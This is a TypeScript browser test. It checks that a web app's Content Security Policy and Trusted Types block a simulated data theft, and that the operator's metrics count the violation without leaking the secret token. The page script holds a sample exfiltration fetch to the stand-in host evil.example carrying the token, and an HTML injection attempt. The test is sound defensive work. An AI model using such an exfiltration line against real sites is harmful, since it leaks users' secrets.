import { once } from 'node:events'
import { existsSync } from 'node:fs'
import { type AddressInfo, connect } from 'node:net'
import { createServer, type Server } from 'node:tls'
import { runRelease, SAMPLE_KEYS } from '@arcada/release'
import { readCertificate } from '../support/certificate.ts'
import { expect, test } from '../support/test.ts'

const SECRET = 'secret-5f0c'
const certificate = readCertificate()

/** One with a window: the shell without one sends no reports. */
const CHROMIUM = ['/usr/bin/chromium', '/usr/bin/google-chrome'].find((path) => existsSync(path))

// Browsers report over HTTPS only, by a process of their own that does not accept a page's certificate exception, and
// with a delay.
test.use({
  launchOptions: {
    ...(CHROMIUM ? { executablePath: CHROMIUM } : {}),
    args: [
      '--no-sandbox',
      `--ignore-certificate-errors-spki-list=${certificate.fingerprint}`,
      '--short-reporting-delay',
    ],
  },
})

/** TLS in front of the edge, and all reports that browsers sent to it. */
async function secure(target: number) {
  let sent = ''
  const server: Server = createServer({ key: certificate.key, cert: certificate.cert }, (browser) => {
    const edge = connect(target, '127.0.0.1')
    for (const socket of [browser, edge]) socket.on('error', () => void [browser.destroy(), edge.destroy()])
    browser.on('data', (part) => {
      sent += part.toString('latin1')
    })
    browser.pipe(edge).pipe(browser)
  })
  await once(server.listen(0), 'listening')
  const { port } = server.address() as AddressInfo
  return { origin: `https://localhost:${port}`, sent: () => sent, close: () => server.close() }
}

test('the operator sees what a browser blocked, without any address, text or account', async ({
  page,
  problems,
  site,
}) => {
  test.skip(CHROMIUM === undefined, 'needs Chromium or Chrome with a window')
  problems.expect(/evil\.example|Content Security Policy|^policy: |^report: csp-violation|TrustedHTML/)
  const edge = await secure(Number(new URL(site.origin).port))
  try {
    await page.goto(`${edge.origin}/m/home?token=${SECRET}`)
    await expect(page.locator('html')).toHaveAttribute('data-startup', '0')
    await page.evaluate(async (secret) => {
      await fetch(`https://evil.example/?stolen=${secret}`).catch(() => {})
      try {
        document.body.insertAdjacentHTML('beforeend', `<b>${secret}</b>`)
      } catch {}
    }, SECRET)
    const collected = `${site.origin}/beacons/metrics`
    const counters = () => fetch(collected).then((answer) => answer.text())
    const release = await page.evaluate(() => globalThis.__arcada.release.release)
    const counted = (directive: string, blocked: string) =>
      `arcada_policy_violations_total{whitelabel="arcada",release="${release}",directive="${directive}",blocked="${blocked}"} 1\n`
    for (const line of [counted('connect-src', 'foreign'), counted('require-trusted-types-for', 'sink')])
      await expect.poll(counters, { timeout: 30_000 }).toContain(line)
    // The browser has sent more than the collector keeps.
    expect(edge.sent()).toContain('/beacons/reports')
    expect(edge.sent()).toContain(`evil.example/?stolen=${SECRET}`)
    expect(await counters()).not.toMatch(new RegExp(`${SECRET}|evil|/m/home|\\?`))

    const lines: string[] = []
    const say = (line: string) => void lines.push(line)
    const args = ['status', '--whitelabel', 'arcada', '--metrics', collected]
    const where = ['--store', `file:${site.store}`, '--keys', SAMPLE_KEYS]
    expect(await runRelease([...args, ...where], { line: say, error: say })).toBe(0)
    expect(lines.join('\n')).toMatch(/blocked by browsers: .*connect-src \(foreign\) 1/)
  } finally {
    edge.close()
  }
})
